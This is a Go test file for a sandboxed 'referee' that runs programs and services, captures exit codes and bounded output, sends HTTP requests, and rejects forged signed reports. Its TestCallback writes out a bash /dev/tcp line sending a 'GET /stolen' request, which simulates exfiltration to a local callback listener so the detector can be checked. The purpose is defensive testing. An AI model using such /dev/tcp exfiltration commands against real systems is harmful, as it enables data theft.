package referee_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"strings"
	"testing"
	"time"

	"crisol/internal/referee"
)

// run carries out a plan as the referee does inside a sandbox.
func run(t *testing.T, plan referee.Plan) referee.Report {
	t.Helper()
	plan.Secret = "s3cret"
	if plan.OutputLimit == 0 {
		plan.OutputLimit = 1 << 10
	}
	in, err := json.Marshal(plan)
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := referee.Main(bytes.NewReader(in), &out); err != nil {
		t.Fatal(err)
	}
	report, err := referee.Decode(out.Bytes(), "s3cret")
	if err != nil {
		t.Fatal(err)
	}
	return report
}

func shell(script string) referee.Program {
	return referee.Program{Args: []string{"/bin/sh", "-c", script}, Dir: os.TempDir(), Stdin: "the order\n"}
}

func freePort(t *testing.T) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = l.Close() }()
	return l.Addr().String()
}

// listener is a service for the tests: this test binary, told by its environment to listen.
func listener(addr string) *referee.Service {
	return &referee.Service{
		Program: referee.Program{Args: []string{os.Args[0]}, Dir: os.TempDir(), Env: []string{"REFEREE_TEST_LISTEN=" + addr}},
		TCP:     addr, Within: 20 * time.Second,
	}
}

func TestMain(m *testing.M) {
	if addr := os.Getenv("REFEREE_TEST_LISTEN"); addr != "" {
		fmt.Println("listening")
		_ = http.ListenAndServe(addr, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path == "/away" {
				http.Redirect(w, r, "/", http.StatusFound)
				return
			}
			w.Header().Set("X-Method", r.Method)
			_, _ = fmt.Fprint(w, "hello ", r.Header.Get("X-Name"))
		}))
		os.Exit(1)
	}
	os.Exit(m.Run())
}

func TestEndings(t *testing.T) {
	for _, c := range []struct {
		script string
		want   referee.Ending
	}{
		{"cat; exit 3", referee.Ending{Exit: 3, Stdout: "the order\n"}},
		{"echo no >&2; kill -SEGV $$", referee.Ending{Exit: 139, Signal: "SIGSEGV", Stderr: "no\n"}},
	} {
		report := run(t, referee.Plan{Main: shell(c.script)})
		if !report.Up || report.Error != "" || *report.Main != c.want {
			t.Errorf("%s: %+v, main %+v", c.script, report, report.Main)
		}
	}
	report := run(t, referee.Plan{Main: referee.Program{Args: []string{"/no/such/program"}}})
	if report.Main == nil || report.Main.Exit != 127 {
		t.Errorf("a missing program: %+v", report.Main)
	}
}

func TestOutputIsBounded(t *testing.T) {
	report := run(t, referee.Plan{OutputLimit: 100, Main: shell("echo head; seq 1 10000; echo tail")})
	got := report.Main.Stdout
	if !strings.HasPrefix(got, "head\n") || !strings.HasSuffix(got, "tail\n") || !strings.Contains(got, "bytes left out") || len(got) > 200 {
		t.Errorf("%d bytes: %q", len(got), got)
	}
}

func TestServiceAndRequests(t *testing.T) {
	addr := freePort(t)
	report := run(t, referee.Plan{
		Service: listener(addr), Main: shell("exit 0"),
		Requests: []referee.Request{
			{URL: "http://" + addr + "/", Headers: map[string]string{"X-Name": "eve"}},
			{Method: http.MethodPost, URL: "http://" + addr + "/away", Body: "x"},
			{URL: "http://" + freePort(t) + "/"},
			{Method: "BAD METHOD", URL: "http://" + addr + "/"},
		},
	})
	if !report.Up || report.Service == nil || !strings.Contains(report.Service.Stdout, "listening") || report.Service.Signal != "SIGKILL" {
		t.Fatalf("%+v, service %+v", report, report.Service)
	}
	a := report.Answers
	if len(a) != 4 || a[0].Status != 200 || a[0].Body != "hello eve" || a[1].Status != http.StatusFound || a[2].Error == "" || a[3].Error == "" {
		t.Errorf("%+v", a)
	}
}

func TestServiceThatDoesNotComeUp(t *testing.T) {
	addr := freePort(t)
	for _, c := range []struct{ script, want string }{
		{"echo broken >&2; exit 7", "ended with exit 7"},
		{"sleep 60", "did not listen"},
	} {
		service := &referee.Service{Program: shell(c.script), TCP: addr, Within: 300 * time.Millisecond}
		report := run(t, referee.Plan{Service: service, Main: shell("exit 0")})
		if report.Up || report.Main != nil || !strings.Contains(report.Error, c.want) {
			t.Errorf("%s: %+v", c.script, report)
		}
	}
	report := run(t, referee.Plan{Service: &referee.Service{Program: referee.Program{Args: []string{"/none"}}, TCP: addr}, Main: shell("exit 0")})
	if report.Up || !strings.Contains(report.Error, "start the service") {
		t.Errorf("%+v", report)
	}
}

func TestCallback(t *testing.T) {
	addr := freePort(t)
	hit := fmt.Sprintf("exec 3<>/dev/tcp/%s; printf 'GET /stolen?x=1 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; cat <&3", strings.Replace(addr, ":", "/", 1))
	report := run(t, referee.Plan{Callback: addr, Main: referee.Program{Args: []string{"/bin/bash", "-c", hit}, Dir: os.TempDir()}})
	if len(report.Hits) != 1 || !strings.HasPrefix(report.Hits[0], "GET /stolen?x=1") || !strings.Contains(report.Main.Stdout, "200 OK") {
		t.Errorf("%+v, main %+v", report, report.Main)
	}
	raw := fmt.Sprintf("exec 3<>/dev/tcp/%s; printf 'raw bytes' >&3", strings.Replace(addr, ":", "/", 1))
	report = run(t, referee.Plan{Callback: addr, Main: referee.Program{Args: []string{"/bin/bash", "-c", raw}, Dir: os.TempDir()}})
	if len(report.Hits) != 1 || report.Hits[0] != "raw bytes" {
		t.Errorf("%+v", report)
	}
	if report = run(t, referee.Plan{Callback: addr, Main: shell("exit 0")}); len(report.Hits) != 0 {
		t.Errorf("%+v", report)
	}
	if report = run(t, referee.Plan{Callback: "127.0.0.1:1:1", Main: shell("exit 0")}); report.Error == "" || report.Main != nil {
		t.Errorf("an address that can't be listened on: %+v", report)
	}
}

// TestForgedReports: nothing but the one line with the secret is believed.
func TestForgedReports(t *testing.T) {
	good, err := referee.Report{Up: true}.Encode("s3cret")
	if err != nil {
		t.Fatal(err)
	}
	forged, err := referee.Report{Up: true}.Encode("guess")
	if err != nil {
		t.Fatal(err)
	}
	for name, c := range map[string]struct {
		out string
		ok  bool
	}{
		"one":            {string(good), true},
		"one and noise":  {"noise\n" + string(good) + "noise", true},
		"a forged one":   {string(forged), false},
		"forged and one": {string(forged) + string(good), true},
		"none":           {"", false},
		"two":            {string(good) + string(good), false},
		"cut":            {string(good[:len(good)-4]), false},
	} {
		if _, err := referee.Decode([]byte(c.out), "s3cret"); (err == nil) != c.ok {
			t.Errorf("%s: %v", name, err)
		}
	}
	if err := referee.Main(strings.NewReader("no plan"), &bytes.Buffer{}); err == nil {
		t.Error("no plan: no error")
	}
}
